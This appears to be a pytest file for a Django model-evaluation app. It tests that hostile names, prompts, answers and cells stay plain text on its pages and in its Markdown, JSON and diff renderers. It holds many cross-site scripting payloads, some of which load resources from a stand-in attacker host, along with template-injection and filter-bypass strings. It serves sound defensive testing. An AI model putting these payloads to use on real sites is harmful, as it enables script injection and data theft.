"""Names, prompts, answers, cells and errors are text from outside: pages show them as text, and as
Markdown, JSON or changes where somebody wants that."""

from html.parser import HTMLParser

import pytest
from django.template.loader import render_to_string
from django.urls import reverse
from django.utils.http import urlencode

from runs.answers import json_tree, markdown
from runs.answers.json_tree import read_json
from runs.answers.markdown import read_markdown
from runs.models import Dataset, EventLevel, RunEvent
from runs.services.datasets.storing import store_rows
from runs.word_diff import MOST_WORDS, diff_words
from tests.harness.factories import (
    add_cached_reply,
    add_candidate,
    add_score,
    client_of,
    make_dataset,
    make_run,
    run_document,
)

pytestmark = pytest.mark.django_db

# A browser is shown these in e2e/test_untrusted_text.py. Each tries to open a dialog, to fetch from
# another site, or to run what the policy forbids.
ELSEWHERE = "http://evil.example"

ELEMENTS = [
    *("<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>"),
    f"<script src={ELSEWHERE}/a.js></script>",
    *(f"<script src=//{ELSEWHERE.removeprefix('http://')}/b.js></script>", "<script>alert(1)"),
    *("<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    *("<script\n>alert(1)</script\n>", "<script type=module>alert(1)</script>"),
    *("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//"),
    *("<IMG SRC=x OnErRoR=alert`1`>", "<img/src=x/onerror=alert(1)>"),
    *(f"<img src={ELSEWHERE}/pixel.png>", f"<img srcset='{ELSEWHERE}/pixel.png 1x'>"),
    *("<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>"),
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg><image href={ELSEWHERE}/i.svg /></svg>",
    f"<svg><use href={ELSEWHERE}/s.svg#x /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    *("<body onload=alert(1)>", f"<iframe src={ELSEWHERE}></iframe>"),
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    *("<iframe src=javascript:alert(1)></iframe>", f"<object data={ELSEWHERE}/o.swf></object>"),
    *(f"<embed src={ELSEWHERE}/e.swf>", f"<link rel=stylesheet href={ELSEWHERE}/l.css>"),
    *(f"<link rel=prefetch href={ELSEWHERE}/p>", f"<style>@import '{ELSEWHERE}/s.css';</style>"),
    f"<style>*{{background:url({ELSEWHERE}/bg)}}</style>",
    *(f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>", f"<base href={ELSEWHERE}/>"),
    *("<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>"),
    f"<video poster={ELSEWHERE}/v.png></video>",
    *(f"<audio src={ELSEWHERE}/a.mp3 autoplay></audio>", "<input autofocus onfocus=alert(1)>"),
    *("<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>"),
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button autofocus>go</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xss style='animation-name:x' onanimationstart=alert(1)></xss>",
]
BREAKOUTS = [
    *('"><script>alert(1)</script>', "'><script>alert(1)</script>"),
    *('" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='"),
    *("</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>"),
    *("</script><script>alert(1)</script>", "</style><script>alert(1)</script>"),
    *("</pre><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>"),
    *("--><script>alert(1)</script><!--", "]]><script>alert(1)</script>"),
    *("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    *("&#60;img src=x onerror=alert(1)&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "{% debug %}"),
    *("${alert(1)}", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>"),
    *(f"[text](javascript:alert(1)) ![image]({ELSEWHERE}/m.png)", "');alert(1);//"),
    "\u202etxt.<script>alert(1)</script>",
]
PLAIN_PAYLOADS = ELEMENTS + BREAKOUTS
PAYLOADS = [
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "'><img src=x onerror=alert(1)>",
    *(text for text in PLAIN_PAYLOADS if text != "javascript:alert(1)"),  # a link; no field's value
    "' onmouseover='alert(1)",
    "</pre><iframe src=javascript:alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input type=submit>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<input onfocus=alert(1) autofocus>",
    "<isindex action=javascript:alert(1)>",
    "{{ 7|add:7 }}{% load static %}{# x #}",
    "{{constructor.constructor('alert(1)')()}}",
    "![x](https://evil.example/?q=1)",
    "[x](javascript:alert(1))",
    "\u202e<script>\u202c",
    "\ufeff<script>alert(1)</script>",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\x1b[31mred\x1b[0m",
    "= 1 + 1",
    "a" * 5000 + "<script>",
]

FORBIDDEN = {"img", "iframe", "object", "embed", "base", "video", "math", "style", "animate"}


class MarkupFinder(HTMLParser):
    """Reads a page as a browser would and notes every tag or attribute that is not ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        known = {name: value or "" for name, value in attributes}
        is_data = known.get("type") == "application/json"
        is_ours = is_data or known.get("src", "").startswith("/static/")
        if tag in FORBIDDEN or (tag == "script" and not is_ours):
            self.found.append(self.get_starttag_text() or tag)
        for name, value in known.items():
            if name.startswith("on") or value.strip().lower().startswith("javascript:"):
                self.found.append(self.get_starttag_text() or name)
            if name in ("href", "src", "action") and "evil.example" in value.split("?")[0]:
                self.found.append(self.get_starttag_text() or name)


def batched(size: int) -> list[list[str]]:
    return [PAYLOADS[start : start + size] for start in range(0, len(PAYLOADS), size)]


def foreign_markup(page):
    finder = MarkupFinder()
    finder.feed(page)
    return finder.found


def test_the_finder_finds_what_it_should_and_nothing_in_what_is_typed(ada):
    assert foreign_markup("<p>text</p>") == []
    assert sum(bool(foreign_markup(payload)) for payload in ELEMENTS) == 41  # 4 are no whole tags
    client, markup = client_of(ada), {}
    fields = ("name", "prompt-0-user", "other_models", "dataset", "yaml", "seed")
    for text in (" ".join(PAYLOADS[:7]), " ".join(PAYLOADS[7:14])):
        typed = dict.fromkeys(fields, text)
        rows = {"prompts": ["0"], "rows": text, "dataset_source": "paste"}
        for name, data in (
            ("run_new", {**typed, **rows}),
            ("run_new", {**typed, "mode": "yaml"}),
            ("dataset_import", {"name": text, "text": f"{text}\n{text},", "step": "preview"}),
            ("endpoint_new", {"name": text, "base_url": text, "model_names": text}),
        ):
            answer = client.post(reverse(name), data)
            assert answer.status_code == 400, (text, name)
            markup[text, name, data.get("mode")] = foreign_markup(answer.text)
        for field in ("q", "state", "kind", "before"):
            page = client.get(reverse("runs"), {field: text}).text
            markup[text, "runs", field] = foreign_markup(page)
    assert len(markup) == 2 * (4 + 4)
    assert {where: found for where, found in markup.items() if found} == {}


@pytest.fixture
def run(ada):
    """A run in which everything that can come from outside is hostile, a handful at once."""
    texts = [" ".join(few) for few in batched(5)]
    dataset = store_rows(ada, "cells", [{"question": text, "expected": text} for text in texts])
    run = make_run(ada, dataset, done=2, failed=1, scored=1)
    position = 0
    for text, case in zip(texts, dataset.cases.all(), strict=True):
        candidate = add_candidate(run)
        candidate.name = text[:250]
        model = {"endpoint": "simulated", "model": text[:190], "parameters": {}}
        prompt = {"name": text[:100], "system": text, "user": text}
        candidate.document = {"prompt": prompt, "model": model}
        candidate.save()
        judged = [["exact", 0.0, False, text]]
        add_score(run, case, candidate, position, answer=text, details=judged)
        tried = [["call", "server_error", 1.0, 1.0, text]]
        failed = {"error_class": "server_error", "error_message": text[:500], "attempts": tried}
        add_score(run, case, candidate, position + 1, repeat=1, **failed)
        RunEvent.objects.create(run=run, level=EventLevel.ERROR, message=text[:500])
        position += 2
    return run


def read(client, address):
    answer = client.get(address)
    assert answer.status_code == 200, address
    return foreign_markup(answer.text)


def test_hostile_texts_stay_text_on_the_pages_of_a_run(ada, run):
    """And on those of all its trials."""
    client, tabs = client_of(ada), ("run", "run_scores", "run_errors", "run_events")
    addresses = [reverse(name, args=[run.pk]) for name in (*tabs, "run_leaderboard")]
    addresses.append(run.dataset.get_absolute_url())
    positions = run.scores.values_list("position", flat=True)
    trials = [reverse("trial", args=[run.pk, position]) for position in positions]
    assert len(trials) == 2 * len(batched(5))
    pages = [*addresses, *trials]
    assert {address: found for address in pages if (found := read(client, address))} == {}


def test_hostile_names_and_documents_of_everything_stay_text(ada, endpoint):
    client, dataset, pages = client_of(ada), make_dataset(ada), [reverse("runs")]
    for few in batched(3):  # as many as a name has room for
        text = " ".join(few)
        pages.append(make_run(ada, dataset, name=text[:120], reason=text[:300]).get_absolute_url())
    for many in batched(15):
        prompts = [{"name": text[:100], "system": text, "user": text} for text in many]
        document = run_document(dataset, name=many[0][:100], prompts=prompts)
        run = make_run(ada, dataset, document=document)
        pages += [reverse("run_configuration", args=[run.pk]), f"{reverse('run_new')}?run={run.pk}"]
    for place, texts in enumerate(batched(9)):
        text, key = " ".join(texts), f"{place:064x}"
        add_cached_reply(run, key, text=text, model=text[:190], endpoint=texts[0][:60])
        pages.append(reverse("cache_entry", args=[key]))
    typed = urlencode(dict.fromkeys(("q", "model", "start"), " ".join(PAYLOADS)))
    pages += [reverse("cache"), f"{reverse('cache')}?{typed}", reverse("cache_prune")]
    assert {address: found for address in pages if (found := read(client, address))} == {}
    endpoint.model_names = PAYLOADS
    endpoint.save()
    for text in PAYLOADS[:30]:
        Dataset.objects.create(name=text, columns=[text], rows=1, digest="x")
    pages = [reverse(name) for name in ("endpoints", "datasets", "run_new")]
    pages.append(endpoint.get_absolute_url())
    assert {address: found for address in pages if (found := read(client, address))} == {}


# --- Answers laid out as Markdown or as JSON: what is understood, and that nothing in them acts


MARKDOWN_PAYLOADS = [
    *("[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](\tjavascript:alert(1))"),
    *("[x](java&#x73;cript:alert(1))", "[x](vbscript:x)"),
    *("[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](//evil.example)"),
    *("[x](/sign-out/)", "<javascript:alert(1)>", "[a]: javascript:alert(1)\n\n[a]"),
    '[x](https://e.example "onmouseover=alert(1)")',
    *('[x](https://e.example/"onmouseover="alert(1))', "![x](https://evil.example/pixel.png)"),
    "![x][a]\n\n[a]: https://evil.example/pixel.png",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    *("|<script>|b|\n|:-:|-:|\n|<img src=x onerror=alert(1)>|2|", "# <script>alert(1)</script>"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "<https://e.example/<script>>"),
    "1. a\n<script>alert(1)</script>",
]
ALLOWED_TAGS = {
    *("a", "blockquote", "br", "code", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p"),
    *("pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
    *("b", "details", "summary"),
}
ALLOWED_ATTRIBUTES = {"class", "id", "tabindex", "href", "target", "rel", "open"}


class Tags(HTMLParser):
    def __init__(self, page):
        super().__init__()
        self.open: list[str] = []
        self.links: list[dict[str, str]] = []
        self.words = ""
        self.feed(page)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED_TAGS
        assert {name for name, _ in attrs} <= ALLOWED_ATTRIBUTES
        if tag == "a":
            self.links.append({name: value or "" for name, value in attrs})
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.words += data


def as_markdown(text):
    context = {"markdown": read_markdown(text)}
    return Tags(render_to_string("parts/markdown.html", context))


def as_json(text):
    return Tags(render_to_string("parts/json_tree.html", {"json": read_json(text)}))


def test_nothing_of_an_answer_becomes_markup():
    """Only our own tags and attributes, all closed, and links only to the web, as such."""
    for text in [*PAYLOADS, *MARKDOWN_PAYLOADS]:
        for page in (as_markdown(text), as_json(text), as_json(f'{{"a": [{text!r}]}}')):
            for link in page.links:
                assert link["href"].startswith(("http://", "https://"))
                assert link["rel"] == "noopener noreferrer nofollow"
                assert link["href"] in page.words


LONG = ["- a\n" * 6_000, "**a** " * 6_000, "[a](https://e.example) " * 5_000, "> " * 20_000]


def test_markdown_is_laid_out_an_image_is_a_link_and_a_long_answer_is_cut():
    text = (
        "# Head\n\nOne **bold** `code`\n\n- a\n- b\n\n|x|\n|-|\n|1|\n\n```py\nif x:\n    y\n```\n"
    )
    written = render_to_string("parts/markdown.html", {"markdown": read_markdown(text)})
    page = written.replace("\n>", ">")  # line breaks stand inside our tags
    for part in (
        *("<h3>Head</h3>", "<strong>bold</strong>", "<code>code</code>"),
        *("<li>a</li>", "<td>1</td>", "if x:\n    y\n</pre>"),
    ):
        assert part in page
    image = as_markdown("![a cat](https://pics.example/cat.png)")  # a link that says where it leads
    assert [link["href"] for link in image.links] == ["https://pics.example/cat.png"]
    assert "(https://pics.example/cat.png)" in image.words
    for text in LONG:
        read = read_markdown(text)
        assert len(read.parts) <= markdown.MOST_PARTS + 100
        assert "Only the beginning is laid out" in as_markdown(text).words


TREES = {
    '{"a": [1, "x"]}': ["a", "[2]", "1", '"x"'],
    '```json\n{"a": null}\n```': ["a", "null"],
    '"just a text"': ['"just a text"'],
    "The answer is 4.": ["It is not JSON"],
    "[" * 90_000: ["It is not JSON"],  # never closed
    "[" * 900 + "]" * 900: ["nested too deeply"],
    "1" * 300_000: ["longer than 200,000"],
    '"\ud800"': ["It is not JSON"],  # half a character
    f"[{'[1],' * 9_000}1]": ["Only the beginning"],
    f'"{"x" * 9_000}"': ["x…"],
}


def test_json_is_a_tree_of_texts():
    for text, words in TREES.items():
        read = read_json(text)
        page = Tags(render_to_string("parts/json_tree.html", {"json": read}))
        assert [word for word in words if word not in page.words] == [], text[:50]
        assert len(read.parts) <= json_tree.MOST_PARTS + 100


# --- The word diff: what it marks, that nothing of a text is lost, and that it stays small

PHRASE = [("same", "the "), ("gone", "quick brown"), ("new", "slow red"), ("same", " fox")]
CHANGES: dict[tuple[str, str], list[tuple[str, str]]] = {
    ("", ""): [],
    ("a b", "a b"): [("same", "a b")],
    ("", "a b"): [("new", "a b")],
    ("a b c", "a c"): [("same", "a "), ("gone", "b "), ("same", "c")],
    ("the quick brown fox", "the slow red fox"): PHRASE,  # one change
    ("$12.50", "$12.75"): [("same", "$12."), ("gone", "50"), ("new", "75")],  # signs are words
    ("東京都", "東都"): [("same", "東"), ("gone", "京"), ("same", "都")],  # no spaces
}


def test_what_changed_is_marked_in_texts_shown_as_such_and_a_long_one_is_cut():
    assert {texts: diff_words(*texts).parts for texts in CHANGES} == CHANGES
    for before, after in (
        ("a  b\n\nc\td", "b a c\n e"),
        ("p q", "p, (q"),
        ("x" * 250, "x" * 200 + " y"),
        ("один два три", "два один три"),
        ("no end\n", " start no"),
    ):
        parts = diff_words(before, after).parts
        assert "".join(part.text for part in parts if part.change != "new") == before
        assert "".join(part.text for part in parts if part.change != "gone") == after
    for text in ("a b " * 100_000, "x" * 5_000_000, " " * 5_000_000, "." * 100_000):
        diff = diff_words(text, "b a " * 100_000)
        assert diff.is_cut, text[:5]
        assert len(diff.parts) <= 4 * MOST_WORDS
    page = render_to_string("parts/word_diff.html", {"diff": diff})
    assert f"Only the first {MOST_WORDS} words of each text are compared." in page
    diff = diff_words("<b>old</b> {{ x }}", "<script>alert(1)</script> {{ x }}")
    page = render_to_string("parts/word_diff.html", {"diff": diff})
    assert not any(tag in page for tag in ("<script", "<b>"))
    assert all(mark in page for mark in ("<del", "<ins", "[gone: ", "[new: "))
